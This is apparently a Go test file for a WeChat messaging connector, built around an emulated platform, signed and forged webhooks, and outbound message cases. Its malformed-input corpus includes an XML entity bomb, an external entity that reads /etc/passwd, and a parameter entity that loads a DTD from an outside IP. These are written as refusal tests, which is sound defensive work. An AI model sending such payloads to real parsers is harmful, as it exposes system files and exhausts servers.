package wechat_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"parley/connectors/conntest"
	"parley/connectors/emulate"
	played "parley/connectors/emulate/wechat"
	"parley/connectors/wechat"
	"parley/core/canon"
	"parley/core/connector"
)

const peer = "oLi7u5xQmZ1aRk9TfWcEoB2dNvHs"

// stage is the played platform as the kit sees it. Its customer writes before
// every call, so that the window is no matter of the kit, unless shut.
type stage struct {
	*played.Platform
	srv  *httptest.Server
	shut bool
	open *openStage // nil: the account is linked by itself
}

func play(o played.Options) func(func() time.Time) (conntest.Emulator, error) {
	return func(clock func() time.Time) (conntest.Emulator, error) {
		o.Clock = clock
		s := &stage{Platform: played.New(o)}
		s.Agree(peer, "NT00042-queue")
		s.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !s.shut {
				s.Open(peer)
			}
			s.ServeHTTP(w, r)
		}))
		return s, nil
	}
}

func (s *stage) Close()          { s.srv.Close() }
func (s *stage) Hosts() []string { return []string{s.srv.Listener.Addr().String()} }
func (s *stage) Config() connector.Values {
	v := connector.Values(s.Platform.Config())
	if s.open != nil {
		v = connector.Values(s.open.app.Config())
	}
	v["api_base"] = s.srv.URL + "/"
	return v
}
func (s *stage) Accounts() []connector.Account {
	if s.open != nil {
		return s.open.accounts()
	}
	return []connector.Account{{ID: canon.ID{1}, RemoteID: "gh_3f7badc0771f", Name: "茶语旗舰店"}}
}

func (s *stage) Calls() []conntest.Call {
	var out []conntest.Call
	for _, c := range s.All() {
		if (c.Op == "stable_token" || strings.HasPrefix(c.Op, "component/")) && c.Code == "" {
			continue // when it is asked for is the cache's affair
		}
		out = append(out, conntest.Call{Visible: c.Visible, Text: c.Text, Wire: fmt.Sprintf("%s\n→ %d %s", c.Wire, c.Status, c.Code)})
	}
	return out
}

// options are the account whose settings a link was made with.
func options(link connector.Link, now time.Time) played.Options {
	v := link.Config
	return played.Options{Original: "gh_3f7badc0771f", AppID: v["app_id"], Token: v["token"], AESKey: v["aes_key"], Plain: v["mode"] == "plain", Clock: func() time.Time { return now }}
}

func sign(link connector.Link, now time.Time, body []byte) connector.Raw {
	query, body := played.New(options(link, now)).SignedAt(body, now, "1320562132")
	return connector.Raw{Method: http.MethodPost, Query: query.Encode(), Header: http.Header{"Content-Type": {"text/xml"}}, Body: body, Arrived: now}
}

// in reads a folder: one callback a file, as the platform's documents show them.
func in(tb testing.TB, folder string) []conntest.InCase {
	tb.Helper()
	paths, err := filepath.Glob(filepath.Join("testdata", folder, "*"))
	if err != nil {
		tb.Fatal(err)
	}
	var out []conntest.InCase
	for _, path := range paths {
		raw, err := os.ReadFile(path)
		if err != nil {
			tb.Fatal(err)
		}
		name, _, _ := strings.Cut(filepath.Base(path), ".")
		out = append(out, conntest.InCase{Name: name, Body: bytes.TrimSpace(raw)})
	}
	return out
}

// malformed is what must be refused: mistakes written down, attacks, and the
// corpus in a folder broken off.
func malformed(tb testing.TB, folder string) []conntest.Body {
	tb.Helper()
	head := "<ToUserName>gh_3f7badc0771f</ToUserName><FromUserName>u</FromUserName><CreateTime>1772357400</CreateTime><MsgType>text</MsgType>"
	bomb := "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
	out := []conntest.Body{
		{Name: "entity bomb", Body: []byte(bomb + "<xml>" + head + "<Content>&c;</Content></xml>")},
		{Name: "external entity", Body: []byte(`<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><xml>` + head + "<Content>&f;</Content></xml>")},
		{Name: "parameter entity", Body: []byte(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p;]><xml>` + head + "</xml>")},
		{Name: "entity nobody declared", Body: []byte("<xml>" + head + "<Content>&f;</Content></xml>")},
		{Name: "comment in the body", Body: []byte("<xml><!-- x -->" + head + "</xml>")},
		{Name: "another root", Body: []byte("<html>" + head + "</html>")},
		{Name: "two documents", Body: []byte("<xml>" + head + "</xml><xml>" + head + "</xml>")},
		{Name: "no sender", Body: []byte("<xml><ToUserName>a</ToUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>")},
		{Name: "no account", Body: []byte("<xml><FromUserName>a</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>")},
		{Name: "no type", Body: []byte("<xml><ToUserName>a</ToUserName><FromUserName>a</FromUserName><CreateTime>1</CreateTime></xml>")},
		{Name: "no time", Body: []byte("<xml><ToUserName>a</ToUserName><FromUserName>a</FromUserName><MsgType>text</MsgType></xml>")},
		{Name: "a time of words", Body: []byte("<xml><ToUserName>a</ToUserName><FromUserName>a</FromUserName><MsgType>text</MsgType><CreateTime>now</CreateTime></xml>")},
		{Name: "a time of another age", Body: []byte("<xml><ToUserName>a</ToUserName><FromUserName>a</FromUserName><MsgType>text</MsgType><CreateTime>99999999999999</CreateTime></xml>")},
		{Name: "an event without name", Body: []byte("<xml><ToUserName>a</ToUserName><FromUserName>a</FromUserName><MsgType>event</MsgType><CreateTime>1</CreateTime></xml>")},
		{Name: "a JSON list", Body: []byte("[]")},
		{Name: "empty JSON", Body: []byte("{}")},
		{Name: "JSON with a nested name", Body: []byte(`{"ToUserName":{"a":1},"FromUserName":"u","CreateTime":1,"MsgType":"text"}`)},
	}
	for _, c := range in(tb, folder) {
		for _, at := range []int{1, len(c.Body) / 8, len(c.Body) / 4, len(c.Body) / 2, len(c.Body) * 3 / 4, len(c.Body) - 1} {
			out = append(out, conntest.Body{Name: fmt.Sprintf("%s, first %d bytes", c.Name, at), Body: c.Body[:at]})
		}
	}
	if len(out) < 200 {
		tb.Fatalf("the malformed corpus has only %d bodies", len(out))
	}
	return out
}

// convert is a converter that knows what its input was.
type convert struct{}

func (convert) Can(from, to string) bool { return to == "audio/mpeg" && from != "audio/x-speex" }
func (convert) Convert(_ context.Context, body io.Reader, from, to string) (io.ReadCloser, error) {
	raw, err := io.ReadAll(body)
	return io.NopCloser(strings.NewReader(fmt.Sprintf("ID3 %s of %s: %d bytes", to, from, len(raw)))), err
}

func suite(tb testing.TB) conntest.Suite {
	handshake := func(link connector.Link, now time.Time) connector.Raw {
		return connector.Raw{Method: http.MethodGet, Query: played.New(options(link, now)).Handshake("5938412").Encode(), Header: http.Header{}}
	}
	return conntest.Suite{
		New: wechat.Official, Play: play(played.Options{}), Peer: peer,
		Env:   func(e *connector.Env) { e.Convert = convert{} },
		Parts: parts(),
		Webhook: &conntest.Webhook{
			Sign: sign, Proof: []string{"msg_signature", "timestamp", "nonce"},
			// Signed is what is encrypted; TestEveryBitOfACallbackIsProved holds that.
			TokenOnly: true,
			In:        in(tb, "in"), Malformed: malformed(tb, "in"),
			Read: func(e conntest.Emulator, _ connector.Link, r connector.Reply) (string, error) {
				b, err := e.(*stage).Read(peer, r.Body)
				if err != nil || b == nil {
					return "", err
				}
				return played.Words(*b), nil
			},
			Handshakes: []conntest.Handshake{{Name: "server settings saved", Raw: handshake, Status: 200, Body: "5938412"}},
			Forged: []conntest.Forgery{
				{Name: "eleven minutes old", Raw: func(l connector.Link, now time.Time) connector.Raw {
					return sign(l, now.Add(-11*time.Minute), in(tb, "in")[0].Body)
				}},
				{Name: "plain in safe mode", Raw: func(l connector.Link, now time.Time) connector.Raw {
					o := options(l, now)
					o.Plain = true
					query, body := played.New(o).SignedAt(in(tb, "in")[0].Body, now, "n")
					return connector.Raw{Method: http.MethodPost, Query: query.Encode(), Header: http.Header{}, Body: body, Arrived: now}
				}},
				{Name: "a handshake nobody signed", Raw: func(l connector.Link, now time.Time) connector.Raw {
					raw := handshake(l, now)
					raw.Query = strings.Replace(raw.Query, "signature=", "signature=0", 1)
					return raw
				}},
			},
		},
		Fetch: &conntest.FetchCase{
			Media: func(e conntest.Emulator) canon.Media {
				return canon.Media{Kind: canon.MediaVoice, MIME: "audio/amr", RemoteID: canon.RemoteID(e.(*stage).Keep("voice", "v.amr", "audio/amr", []byte("#!AMR\nsilence")))}
			},
			Want: []byte("ID3 audio/mpeg of audio/amr: 13 bytes"),
		},
		Out: outCases(),
	}
}

// file is one of the kit's: 101 a picture, 103 a video.
func file(n byte) canon.ID {
	return canon.ID{0x01, 0x90, 0xf3, 0xa2, 0x7c, 0x1e, 0x70, 0, 0x80, 0, 0, 0, 0, 0, 0, n}
}

func parts() map[string]canon.Part {
	picture := canon.Media{Kind: canon.MediaImage, File: file(101), MIME: "image/png"}
	return map[string]canon.Part{
		"template": canon.Template{Name: "TM00017-order", Locale: "zh-CN", Text: "订单 1042 已发货", Params: []canon.TemplateParam{{Slot: "character_string1", Text: "1042"}, {Slot: "time2", Text: "明天"}}},
		"card.app": canon.Card{Kind: canon.CardApp, Title: "茶杯", AppID: "wx3f1a9c0b7d5e2468", Path: "pages/item?id=18", Image: picture},
	}
}

// leading is a template that leads somewhere.
func leading(to ...canon.Lead) canon.Template {
	t := parts()["template"].(canon.Template)
	t.Params = slices.Clone(t.Params)
	for i := 0; i < len(to); i += 2 {
		t.Params = append(t.Params, canon.TemplateParam{Slot: string(to[i]), Leads: to[i], Text: string(to[i+1])})
	}
	return t
}

func outCases() []conntest.OutCase {
	hello := canon.TextMessage("你好，我是 Mei")
	fails := func(name string, class connector.Class, f emulate.Fault) conntest.OutCase {
		if f.Op == "" {
			f.Op = "message/custom/send"
		}
		return conntest.OutCase{Name: name, Message: hello, Class: class, Before: func(e conntest.Emulator) { e.(*stage).Misbehave(f) }}
	}
	code := func(n int) emulate.Fault {
		return emulate.Fault{Status: 200, Body: []byte(fmt.Sprintf(`{"errcode":%d,"errmsg":"as the document says"}`, n))}
	}
	one := func(name string, p canon.Part) conntest.OutCase {
		return conntest.OutCase{Name: name, Message: canon.Message{Parts: []canon.Part{p}}}
	}
	before := func(c conntest.OutCase, class connector.Class, do func(*stage)) conntest.OutCase {
		c.Class, c.Before = class, func(e conntest.Emulator) { do(e.(*stage)) }
		return c
	}
	lost := fails("taken, then the connection breaks", connector.Uncertain, emulate.Fault{Kind: emulate.LoseAnswer})
	lost.Taken = true
	menu := canon.Choices{Style: canon.ChoiceQuick, Prompt: "您对本次服务是否满意呢？", Footer: "欢迎再次光临", Options: []canon.Option{
		{Kind: canon.OptionReply, Label: "满意", Value: "good"}, {Kind: canon.OptionReply, Label: "不满意", Value: "bad"}, {Kind: canon.OptionHuman, Label: "转人工"},
	}}
	out := []conntest.OutCase{
		{Name: "text", Message: hello},
		{Name: "text without escapes", Message: canon.TextMessage("<a href=\"https://example.com\">A&B</a>\u2028\x00\x07 next\r\nline")},
		one("picture", canon.Media{Kind: canon.MediaImage, File: file(101), Name: "收据.png", MIME: "image/png"}),
		one("recording converted", canon.Media{Kind: canon.MediaVoice, File: file(102), MIME: "audio/ogg"}),
		one("video", canon.Media{Kind: canon.MediaVideo, File: file(103), Name: "用法.mp4", MIME: "video/mp4", Caption: "三十秒"}),
		one("menu message", menu),
		one("buttons with an address", canon.Choices{Style: canon.ChoiceButtons, Prompt: "去哪里？", Options: []canon.Option{{Kind: canon.OptionReply, Label: "查订单", Value: "order"}, {Kind: canon.OptionURL, Label: "商城", URL: "https://shop.example.com/"}}}),
		one("card", canon.Card{Kind: canon.CardProduct, Title: "茶杯", Text: "白瓷", URL: "https://shop.example.com/18", Price: "¥128.00", Image: canon.Media{Kind: canon.MediaImage, File: file(101)}}),
		one("card without an address", canon.Card{Kind: canon.CardOrder, Title: "订单 1042", Status: "已发货"}),
		one("mini-program page", parts()["card.app"]),
		one("template", parts()["template"]),
		one("template with an address", leading(canon.LeadURL, "https://shop.example.com/o/1042")),
		one("template with a mini-program", leading(canon.LeadURL, "https://shop.example.com/o/1042", canon.LeadApp, "wx9d2e7c4b1a5f8036", canon.LeadPage, "pages/order?id=1042")),
		before(one("template with a mini-program that is not bound", leading(canon.LeadApp, "wx0000000000000000")), connector.Invalid, func(*stage) {}),
		one("notification", canon.Template{Name: "subscribe:NT00042-queue", Text: "排队", Params: []canon.TemplateParam{{Slot: "number1", Text: "3"}}}),
		one("sticker", canon.Sticker{Image: canon.Media{Kind: canon.MediaImage, File: file(101)}, Emoji: "😺"}),
		before(one("notification nobody agreed to", canon.Template{Name: "subscribe:NT00042-queue", Params: []canon.TemplateParam{{Slot: "number1", Text: "3"}}}), connector.WindowClosed,
			func(s *stage) {
				s.Misbehave(emulate.Fault{Op: "message/subscribe/bizsend", Status: 200, Body: []byte(`{"errcode":43101,"errmsg":"user refuse to accept the msg"}`)})
			}),
		before(one("template with an empty slot", canon.Template{Name: "TM00017-order"}), connector.Invalid, func(*stage) {}),
		before(conntest.OutCase{Name: "window closed", Message: hello}, connector.WindowClosed, func(s *stage) { s.shut = true }),
		before(conntest.OutCase{Name: "token ran out, taken with the next", Message: hello}, "", func(s *stage) { s.Expire() }),
		before(conntest.OutCase{Name: "off the whitelist", Message: hello}, connector.NeedsLogin, func(s *stage) { s.Ban(true) }),
		{Name: "to a stranger", Message: hello, Class: connector.Gone, Request: func(r *connector.Request) { r.Thread.Peer = "nobody" }},
		{Name: "two parts", Message: canon.Message{Parts: []canon.Part{canon.Text{Body: "a"}, canon.Text{Body: "b"}}}, Class: connector.Invalid},
		{Name: "unknown operation", Class: connector.Unsupported, Request: func(r *connector.Request) { r.Op = "pin" }},
		fails("busy", connector.Transient, code(-1)),
		fails("count used up", connector.WindowClosed, code(45047)),
		fails("not permitted", connector.Unsupported, code(48001)),
		fails("blocked", connector.Gone, code(48002)),
		fails("kind of account", connector.Unsupported, code(40200)),
		fails("daily quota", connector.RateLimited, code(45009)),
		fails("minute quota", connector.RateLimited, code(45011)),
		fails("a code nobody knows", connector.Invalid, code(99999)),
		fails("a secret in the answer", connector.Invalid, emulate.Fault{Status: 200, Body: []byte(`{"errcode":99999,"errmsg":"your secret 4d7a1c9e0b2f86537a4e9d1c0b8f6253 is odd"}`)}),
		fails("502", connector.Uncertain, emulate.Fault{Status: 502, Body: []byte("<html>bad gateway</html>")}),
		fails("429", connector.RateLimited, emulate.Fault{Status: 429, Header: http.Header{"Retry-After": {"7"}}}),
		fails("404", connector.Invalid, emulate.Fault{Status: 404}),
		fails("cut before it was taken", connector.Uncertain, emulate.Fault{Kind: emulate.HangUp}),
		fails("no token: cut", connector.Transient, emulate.Fault{Op: "stable_token", Kind: emulate.HangUp}),
		lost,
	}
	return slices.Clip(out)
}

func TestConformance(t *testing.T) {
	s := suite(t)
	if n := len(s.Webhook.In); n < 40 {
		t.Fatalf("the corpus has only %d callbacks", n)
	}
	conntest.Run(t, s)
}

func FuzzDecode(f *testing.F) { conntest.Fuzz(f, suite(f)) }

// plain is the suite of an account in plain mode.
func plain(tb testing.TB) conntest.Suite {
	s := suite(tb)
	s.Play = play(played.Options{Plain: true})
	s.Golden = "testdata/conntest"
	s.Webhook.Proof, s.Webhook.Forged, s.Webhook.Mutations = []string{"signature", "timestamp", "nonce"}, nil, 300
	s.Out = s.Out[:1]
	return s
}

func TestConformanceInPlainMode(t *testing.T) { conntest.Run(t, plain(t)) }

// miniSuite is the suite of a mini-program.
func miniSuite(tb testing.TB) conntest.Suite {
	s := suite(tb)
	s.New, s.Play, s.Golden = wechat.Mini, play(played.Options{Mini: true}), "testdata/conntest-mini"
	s.Webhook.In, s.Webhook.Read, s.Webhook.Mutations = in(tb, "in-mini"), nil, 500
	s.Webhook.Malformed = malformed(tb, "in-mini")
	if n := len(s.Webhook.In); n < 40 {
		tb.Fatalf("the corpus of mini-programs has only %d callbacks", n)
	}
	s.Parts = map[string]canon.Part{
		"template": canon.Template{Name: "NT00042-queue", Params: []canon.TemplateParam{{Slot: "number1", Text: "3"}}},
		"card.app": canon.Card{Kind: canon.CardApp, Title: "茶杯", Path: "pages/item?id=18", Image: canon.Media{Kind: canon.MediaImage, File: file(101), MIME: "image/png"}},
	}
	s.Fetch = &conntest.FetchCase{
		Media: func(e conntest.Emulator) canon.Media {
			return canon.Media{Kind: canon.MediaImage, MIME: "image/jpeg", RemoteID: canon.RemoteID(e.(*stage).Keep("image", "a.png", "image/png", played.Pixel()))}
		},
		Want: played.Pixel(),
	}
	s.Out = []conntest.OutCase{
		{Name: "text", Message: canon.TextMessage("你好")},
		{Name: "link", Message: canon.Message{Parts: []canon.Part{canon.Card{Kind: canon.CardLink, Title: "茶杯", Text: "白瓷", URL: "https://shop.example.com/18", Image: canon.Media{File: file(101)}}}}},
		{Name: "page", Message: canon.Message{Parts: []canon.Part{s.Parts["card.app"]}}},
		{Name: "notification", Message: canon.Message{Parts: []canon.Part{s.Parts["template"]}}},
		{Name: "recording", Class: connector.Unsupported, Message: canon.Message{Parts: []canon.Part{canon.Media{Kind: canon.MediaVoice, File: file(102), MIME: "audio/ogg"}}}},
	}
	return s
}

func TestConformanceOfMiniPrograms(t *testing.T) { conntest.Run(t, miniSuite(t)) }
